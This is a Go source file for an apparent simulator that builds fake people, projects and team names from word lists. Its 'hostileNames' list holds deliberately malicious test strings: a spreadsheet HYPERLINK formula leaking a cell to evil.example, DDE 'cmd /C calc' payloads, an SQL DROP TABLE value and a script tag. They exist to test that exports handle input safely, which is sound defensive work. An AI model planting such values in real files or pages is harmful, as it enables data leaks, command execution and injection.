package adosim

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

var firstNames = []string{
	"Aarav", "Abigail", "Adriana", "Ahmed", "Aiko", "Alejandro", "Alice", "Amara", "Anders", "Ana",
	"Ben", "Bianca", "Bogdan", "Carla", "Chen", "Chloe", "Dae", "Daniel", "Diego", "Dmitri",
	"Elena", "Emeka", "Emma", "Fatima", "Felix", "Freya", "Gabriel", "Grace", "Hana", "Hugo",
	"Ines", "Ivan", "Jamal", "Jin", "Johan", "Julia", "Kai", "Kamala", "Karin", "Lars",
	"Leila", "Liam", "Lucia", "Maya", "Mei", "Miguel", "Nadia", "Noah", "Olga", "Omar",
	"Priya", "Rafael", "Rin", "Sofia", "Sven", "Tariq", "Tomas", "Uma", "Victor", "Yara",
}

var lastNames = []string{
	"Abara", "Andersen", "Bauer", "Brown", "Chen", "Costa", "Dubois", "Eriksen", "Fischer", "Garcia",
	"Gupta", "Haddad", "Ito", "Jensen", "Kim", "Kowalski", "Larsen", "Lopez", "Martin", "Meyer",
	"Mueller", "Nakamura", "Nguyen", "Novak", "Okafor", "Olsen", "Patel", "Petrov", "Rossi", "Sato",
	"Schmidt", "Silva", "Singh", "Smith", "Tanaka", "Torres", "Vasquez", "Wagner", "Wang", "Zhang",
}

var projectWords = []string{
	"Atlas", "Beacon", "Cobalt", "Delta", "Ember", "Falcon", "Granite", "Harbor", "Iris", "Juniper",
	"Kestrel", "Lumen", "Meridian", "Nimbus", "Orion", "Pioneer", "Quartz", "Raven", "Summit", "Tundra",
	"Umbra", "Vertex", "Willow", "Xenon", "Yonder", "Zephyr",
}

var teamWords = []string{"Platform", "Payments", "Mobile", "Web", "Data", "Infra", "Security", "QA", "Search", "Identity", "Billing", "Growth"}

var orgGroupWords = []string{"Auditors", "Release Managers", "Contractors", "Support", "Architects", "SRE", "Compliance", "Finance IT", "Onboarding", "Licensing Admins"}

// hostileNames are display names that break naive CSV, spreadsheet, HTML and
// shell handling. Every preset carries some of them.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"Click me")`,
	`+SUM(1,2)`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`Smith, John`,
	`O'Brien "The Hammer"`,
	"Line one\nLine two",
	"\tTabbed Name",
	`山田 太郎`,
	`Иван Петров`,
	`محمد علي`,
	`Zoë Ångström-Øster`,
	`=1+2;DROP TABLE users`,
	`<script>alert(1)</script>`,
}

// personName returns a deterministic "First Last" and a login name.
func personName(r *rand.Rand, n int) (display, login string) {
	f := firstNames[r.IntN(len(firstNames))]
	l := lastNames[r.IntN(len(lastNames))]
	return f + " " + l, fmt.Sprintf("%s.%s%d", strings.ToLower(f), strings.ToLower(l), n)
}

func projectName(r *rand.Rand, n int) string {
	return fmt.Sprintf("%s-%s-%03d", projectWords[r.IntN(len(projectWords))], projectWords[r.IntN(len(projectWords))], n)
}

func hostile(n int) string { return hostileNames[n%len(hostileNames)] }
